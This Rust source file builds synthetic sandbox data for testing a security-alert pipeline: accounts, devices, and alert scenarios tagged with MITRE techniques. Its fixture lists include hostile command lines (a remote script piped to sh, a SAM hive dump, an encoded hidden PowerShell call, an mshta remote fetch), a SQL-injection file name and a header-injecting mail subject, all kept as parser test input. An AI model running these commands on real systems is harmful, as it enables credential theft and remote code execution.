//! People, devices, files and sentences of the sandbox, all made up. About a third are nasty on purpose: quotes, pipes,
//! backslashes, brackets, line breaks, marks that turn the writing direction, characters of no width, emoji. Real file
//! names and mail subjects are written by attackers.

use rand::RngExt;
use rand::rngs::Xoshiro256PlusPlus;

/// The generator of the sandbox: small, fast, and the same on every machine.
pub type Dice = Xoshiro256PlusPlus;

/// The tenant of the sandbox.
pub const TENANT_ID: &str = "5a11d0b0-7e57-4000-8000-00000000c0de";
/// The application that signs in.
pub const CLIENT_ID: &str = "c11e47a9-0000-4000-8000-000000000001";
/// Its secret: opaque, with the characters that forms and shells stumble over.
pub const SECRET: &str = "sandbox~secret.with+plus/slash=and%percent";

/// Account names.
pub const PEOPLE: [&str; 12] = [
    "kim.larsen",
    "d.o'brien",
    "zoë.müller",
    "svc-backup$",
    "amara.okafor",
    "j.van der berg",
    "li.wei",
    "محمد.علي",
    "renée|contractor",
    "адмін",
    "p\u{200b}.silva",
    "helpdesk",
];
/// Device names.
pub const DEVICES: [&str; 10] = [
    "fin-laptop-017.corp.example",
    "srv-dc-02.corp.example",
    "WIN-7Q1L9ZK2",
    "build-agent-4.corp.example",
    "münchen-pc9.corp.example",
    "sql-prod-01.corp.example",
    "kiosk=lobby",
    "MacBook-von-Jürgen",
    "ubuntu-jump",
    "hr-tablet]3",
];
/// File names.
pub const FILES: [&str; 12] = [
    "invoice_2026.xlsm",
    "updater.exe",
    "report\u{202e}fdp.exe",
    "Q3 \"final\" numbers.docx",
    "run|me.ps1",
    "a\\b.dll",
    "lohn—übersicht.pdf.lnk",
    "salary]=list.csv",
    "💰bonus💰.zip",
    "line\nbreak.bat",
    "svchost.exe",
    "'; DROP TABLE logs;--.sql",
];
/// Folders.
pub const FOLDERS: [&str; 6] = [
    r"C:\Users\d.o'brien\AppData\Local\Temp",
    r"C:\Windows\System32",
    r"\\srv-files\share$\Finance [old]",
    "/tmp/.x11=unix",
    r"C:\ProgramData\Contoso|Sync",
    "/opt/app/bin",
];
/// Command lines.
pub const COMMANDS: [&str; 8] = [
    r#"powershell.exe -NoP -W Hidden -Enc SQBFAFgAIAAoAE4AZQB3AC0ATwBiAGoAZQBjAHQAKQA="#,
    r#"cmd.exe /c "whoami /all | findstr S-1-5-32-544 > %TEMP%\o.txt""#,
    "bash -c 'curl -s http://203.0.113.7/x | sh'\r\n",
    r#"rundll32.exe C:\Users\Public\x.dll,#1 "a=b" \\.\pipe\msagent_7f"#,
    "python3 -c \"import os\nos.system('id')\t# two lines\"",
    r"reg.exe save HKLM\SAM C:\Windows\Temp\s.hiv /y",
    "mshta.exe javascript:a=(GetObject('script:https://files.example/p?x=1&y=2|3')).Exec();close();",
    "schtasks /create /tn \"\u{202e}etadpU\" /tr calc.exe /sc minute",
];
/// Mail subjects.
pub const SUBJECTS: [&str; 8] = [
    "Action required: your mailbox is full",
    "RE: FW: Invoice \"4711\" | overdue",
    "Ihre Rechnung – öffnen Sie den Anhang 📎",
    "🎁 You won!\u{200b}",
    "Password=expires [today]",
    "تنبيه أمني",
    "Delivery failed\r\nX-Injected: yes",
    "Meeting notes C:\\temp\\notes",
];
/// Registry keys.
pub const REGISTRY_KEYS: [&str; 3] = [
    r"SOFTWARE\Microsoft\Windows\CurrentVersion\Run",
    r"SYSTEM\CurrentControlSet\Services\Ev|l]Svc",
    r"SOFTWARE\Classes\ms-settings\shell\open\command",
];
/// Analysts that incidents are assigned to.
pub const ANALYSTS: [&str; 5] =
    ["soc1@corp.example", "nina.o'hara@corp.example", "tier2|night@corp.example", "Automation", "josé@corp.example"];
/// What analysts write.
pub const COMMENTS: [&str; 6] = [
    "Looking into it.",
    "User confirmed: \"that was me\" \u{2014} closing after a check.",
    "see ticket SEC-4711 | owner=infra",
    "Isolated the device.\nNext step: reimage.",
    "再確認が必要です",
    "false alarm? C:\\tools\\scan.exe is ours 🙂",
];
/// Tags.
pub const TAGS: [&str; 6] = ["VIP", "ransomware", "needs review", "env=prod", "a|b", "été"];

/// What an alert is about.
#[derive(Debug)]
pub struct Scenario {
    /// The title; `{user}` and `{device}` are filled in for the name of the incident.
    pub title: &'static str,
    /// The description; `{user}`, `{device}` and `{file}` are filled in.
    pub text: &'static str,
    /// `category`.
    pub category: &'static str,
    /// `serviceSource`.
    pub service: &'static str,
    /// `detectionSource`.
    pub detection: &'static str,
    /// The two letters in front of `alertId`.
    pub prefix: &'static str,
    /// `mitreTechniques`.
    pub techniques: &'static [&'static str],
    /// Whether there is a device.
    pub on_device: bool,
    /// The types of its entities, in turn.
    pub entities: &'static [&'static str],
}

/// What happens in this tenant.
pub const SCENARIOS: [Scenario; 9] = [
    Scenario {
        title: "Sign-in from two continents within an hour",
        text: "{user} signed in from places that are too far apart for the time in between.",
        category: "InitialAccess",
        service: "MicrosoftCloudAppSecurity",
        detection: "MCAS",
        prefix: "ca",
        techniques: &[],
        on_device: false,
        entities: &["User", "Ip", "Ip"],
    },
    Scenario {
        title: "Script interpreter started by an office document",
        text: "A document started a script interpreter on {device}: \"{file}\". The command line was hidden | encoded.",
        category: "Execution",
        service: "MicrosoftDefenderForEndpoint",
        detection: "WindowsDefenderAtp",
        prefix: "da",
        techniques: &["T1059.001", "T1204.002"],
        on_device: true,
        entities: &["Process", "File", "User", "Process", "Ip"],
    },
    Scenario {
        title: "'Credumper' hacktool was prevented",
        text: "A tool that reads credentials from memory was found in {file} on {device} and removed.\r\nNo action needed.",
        category: "CredentialAccess",
        service: "MicrosoftDefenderForEndpoint",
        detection: "WindowsDefenderAv",
        prefix: "da",
        techniques: &["T1003.001"],
        on_device: true,
        entities: &["File", "Process", "User"],
    },
    Scenario {
        title: "Mail with a harmful file removed after delivery\u{200b}",
        text: "Messages with a harmful attachment ({file}) were delivered to {user} and taken back. V1.0.0.3",
        category: "InitialAccess",
        service: "MicrosoftDefenderForOffice365",
        detection: "OfficeATP",
        prefix: "fa",
        techniques: &["T1566.001"],
        on_device: false,
        entities: &["Mailbox", "File", "MailMessage", "User", "MailCluster", "MailCluster", "Url"],
    },
    Scenario {
        title: "Unfamiliar sign-in properties",
        text: "Properties of this sign-in of {user} were never seen before: network, browser, device, place",
        category: "InitialAccess",
        service: "AADIdentityProtection",
        detection: "AAD",
        prefix: "ad",
        techniques: &["T1078", "T1078.004"],
        on_device: false,
        entities: &["User", "Ip"],
    },
    Scenario {
        title: "Autostart entry written",
        text: "A process wrote itself into the start of {device}; path C:\\ProgramData\\{file}, value=\"1\"",
        category: "Persistence",
        service: "MicrosoftDefenderForEndpoint",
        detection: "CustomTI",
        prefix: "da",
        techniques: &["T1547.001"],
        on_device: true,
        entities: &["Registry", "Process", "File"],
    },
    Scenario {
        title: "Mass renaming of files | possible ransomware",
        text: "{user} renamed hundreds of files to one odd extension. \u{202b}{file}\u{202c} is among them.",
        category: "Impact",
        service: "MicrosoftCloudAppSecurity",
        detection: "MCAS",
        prefix: "ca",
        techniques: &["T1486"],
        on_device: false,
        entities: &["User", "Ip", "File", "File"],
    },
    Scenario {
        title: "Member added to a privileged group",
        text: "{user} added an account to a group with domain-wide rights [audit=on].",
        category: "PrivilegeEscalation",
        service: "MicrosoftDefenderForIdentity",
        detection: "MicrosoftDefenderForIdentity",
        prefix: "aa",
        techniques: &["T1098"],
        on_device: true,
        entities: &["User", "SecurityGroup", "User"],
    },
    Scenario {
        title: "Privileged container started from an unknown image",
        text: "A container with rights on its host was started by {user}: image=registry.example/{file}",
        category: "Execution",
        service: "MicrosoftDefenderForCloud",
        detection: "MicrosoftDefenderForContainers",
        prefix: "dc",
        techniques: &["T1610"],
        on_device: false,
        entities: &["User", "Ip"],
    },
];

/// One of a list.
pub fn pick<T: Copy>(dice: &mut Dice, list: &[T]) -> T {
    list[dice.random_range(0..list.len())]
}

/// A GUID.
pub fn guid(dice: &mut Dice) -> String {
    let text = format!("{:032x}", dice.random::<u128>());
    [&text[..8], &text[8..12], &text[12..16], &text[16..20], &text[20..]].join("-")
}

/// Lower-case hex digits, as many as asked.
pub fn hex(dice: &mut Dice, digits: usize) -> String {
    let mut text = String::with_capacity(digits + 15);
    while text.len() < digits {
        use std::fmt::Write;
        write!(text, "{:016x}", dice.random::<u64>()).expect("a String takes every write");
    }
    text.truncate(digits);
    text
}

/// An address of the ranges kept for examples (RFC 5737), now and then of RFC 3849.
pub fn address(dice: &mut Dice) -> String {
    match dice.random_range(0..4u8) {
        0 => format!("192.0.2.{}", dice.random_range(1..255u8)),
        1 => format!("198.51.100.{}", dice.random_range(1..255u8)),
        2 => format!("2001:db8::{:x}:{:x}", dice.random::<u16>(), dice.random::<u16>()),
        3.. => format!("203.0.113.{}", dice.random_range(1..255u8)),
    }
}
